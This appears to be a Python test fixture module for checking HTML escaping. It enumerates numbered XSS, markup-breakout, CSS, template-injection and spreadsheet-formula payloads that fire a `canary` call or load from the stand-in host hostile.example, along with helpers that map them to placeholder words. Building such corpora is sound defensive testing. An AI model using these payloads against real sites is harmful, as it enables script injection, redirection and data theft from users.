"""Texts that would be markup, script or style where a page took them for its own.

Each calls `canary` or leads to a host of its own if it acts, and is told from the others by its
number. The ways are those of the HTML standard (https://html.spec.whatwg.org/multipage/): how
elements and attributes begin and end (13.2.5), what handlers and URLs run (8.1.8, 7.4.2.3), what
a head may tell (4.2); and of XSS filters' own test lists, written anew.
"""

from __future__ import annotations

import re
from dataclasses import fields, is_dataclass, replace
from typing import Any, cast

HOST = "hostile.example"  # RFC 2606: nobody's

_FIRST = 1000
_TEMPLATES = (
    # elements that act or load
    "<script>canary(%d)</script>",
    "<ScRiPt >canary(%d)</sCrIpT >",
    "<script src=//HOST/%d.js></script>",
    "</script><script>canary(%d)</script>",
    "<img src=x onerror=canary(%d)>",
    "<img src=//HOST/%d.png>",
    "<img/src=`x`/onerror=canary(%d)>",
    "<iframe srcdoc='<script>parent.canary(%d)</script>'></iframe>",
    "<iframe src=//HOST/%d></iframe>",
    "<object data=//HOST/%d></object>",
    "<embed src=//HOST/%d>",
    "<video src=//HOST/%d onerror=canary(%d)></video>",
    "<audio autoplay src=x onerror=canary(%d)>",
    "<input autofocus onfocus=canary(%d)>",
    "<details open ontoggle=canary(%d)>",
    "<body onload=canary(%d)>",
    "<marquee onstart=canary(%d)>",
    "<b onmouseover=canary(%d) onclick=canary(%d)>x</b>",
    "<a href=javascript:canary(%d)>x</a>",
    "<a href='jav&#x09;ascript:canary(%d)'>x</a>",
    "<form action=javascript:canary(%d)><button>x</button></form>",
    "<template><script>canary(%d)</script></template>",
    "<x-one onclick=canary(%d) tabindex=1>x</x-one>",
    "<portal src=//HOST/%d></portal>",
    # other languages inside the page
    "<svg onload=canary(%d)>",
    "<svg><script>canary(%d)</script></svg>",
    "<svg><animate onbegin=canary(%d) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:canary(%d)><text>x</text></a></svg>",
    "<svg><use href=//HOST/%d.svg#x></use></svg>",
    "<svg><style><img src=x onerror=canary(%d)></style></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:canary(%d)>x</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary(%d)>",
    # the end of what stands around it
    '"><script>canary(%d)</script>',
    "'><script>canary(%d)</script>",
    '" onmouseover=canary(%d) x="',
    "' onmouseover=canary(%d) x='",
    "x onmouseover=canary(%d) ",
    "` onmouseover=canary(%d) `",
    "</title><script>canary(%d)</script>",
    "</style><script>canary(%d)</script>",
    "</textarea></noscript></template></select><script>canary(%d)</script>",
    "</summary></details></code></li></ul></dd></td></table><img src=x onerror=canary(%d)>",
    "</text></svg><img src=x onerror=canary(%d)>",
    "--><script>canary(%d)</script><!--",
    "]]><script>canary(%d)</script><![CDATA[",
    "<!--%d",
    "<plaintext>%d",
    "<xmp>%d",
    "<textarea>%d",
    "<table><tr><td>%d",
    "<img src='//HOST/%d?",
    "<a href='//HOST/%d?x=",
    # the head's words
    "<base href=//HOST/%d/>",
    "<meta http-equiv=refresh content='0;url=//HOST/%d'>",
    "<meta http-equiv=refresh content='0;url=javascript:canary(%d)'>",
    "<link rel=stylesheet href=//HOST/%d.css>",
    "<link rel=preload as=image href=//HOST/%d.png>",
    "<link rel=dns-prefetch href=//%d.HOST>",
    # style
    "<style>*{display:none;background:url(//HOST/%d)}</style>",
    "<style>@import '//HOST/%d.css';</style>",
    "}</style>*{background:url(//HOST/%d)}",
    "<p style='background:url(//HOST/%d);position:fixed;inset:0'>x</p>",
    "expression(canary(%d))",
    # addresses and formulas
    "javascript:canary(%d)",
    "data:text/html,<script>canary(%d)</script>",
    "vbscript:canary(%d)",
    '=HYPERLINK("http://HOST/%d")',
    "=cmd|' /C canary'!A%d",
    "@SUM(1)*%d",
    # what templates would compute
    "{{ %d * 7 }}",
    "{%% include '%d' %%}",
    "{# %d #}",
    "{{ cycler | attr('x%d') }}",
    "${canary(%d)}",
    "#{canary(%d)}",
    "<%%= canary(%d) %%>",
    "{{constructor.constructor('canary(%d)')()}}",
    "[[%d]] {{{canary}}} *ngIf v-html",
    # entities and letters that become others
    "&lt;script&gt;canary(%d)&lt;/script&gt;",
    "&#60;script&#62;canary(%d)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=canary(%d)&amp;gt;",
    "&quot;&gt;%d&apos;&nbsp;&NotAnEntity;&#0;&#x110000",
    "\\u003cscript\\u003ecanary(%d)\\u003c/script\\u003e",
    "%%3Cscript%%3Ecanary(%d)%%3C/script%%3E",
    "+ADw-script+AD4-canary(%d)+ADw-/script+AD4-",
    "\uff1cscript\uff1ecanary(%d)\uff1c/script\uff1e",
    "\u202e>tpircs/<(%d)yranac>tpircs<\u202c",
    "\u2066<img src=x onerror=canary(%d)>\u2069",
    "<scr\u200bipt>canary(%d)</scr\u200bipt>",
    "<img\u2028src=x\u2029onerror=canary(%d)>",
    "\ufeff<script>canary(%d)</script>",
    "<\u0130mg src=x onerror=canary(%d)>",
    "a\nb\t<script>canary(%d)</script>",
)  # fmt: skip


def _numbered(template: str, number: int) -> str:
    return (template.replace("%d", str(number)).replace("%%", "%")).replace("HOST", HOST)


TEXTS = tuple(_numbered(template, number) for number, template in enumerate(_TEMPLATES, _FIRST))


def word(text: str) -> str:
    """Return the innocent word that stands for a text, "w1004w"."""
    return f"w{TEXTS.index(text) + _FIRST}w"


def hostile(shown: str) -> str:
    """Return what a page of innocent words shows, with the texts that these stand for."""
    return _WORD.sub(lambda found: TEXTS[int(found[1]) - _FIRST], shown)


def innocent(value: Any) -> Any:
    """Return a value of dataclasses, records, lists and texts with an innocent word for each of
    `TEXTS`.
    """
    if isinstance(value, str) and type(value) is str:
        return _ANY.sub(lambda found: word(found[0]), value)
    if isinstance(value, tuple | list):
        return type(value)(innocent(one) for one in value)
    if isinstance(value, dict):
        return {innocent(key): innocent(one) for key, one in value.items()}
    if is_dataclass(value):
        held = cast("Any", value)
        return replace(held, **{f.name: innocent(getattr(held, f.name)) for f in fields(held)})
    return value


_ANY = re.compile("|".join(map(re.escape, sorted(TEXTS, key=len, reverse=True))))
_WORD = re.compile(r"w(1\d\d\d)w")
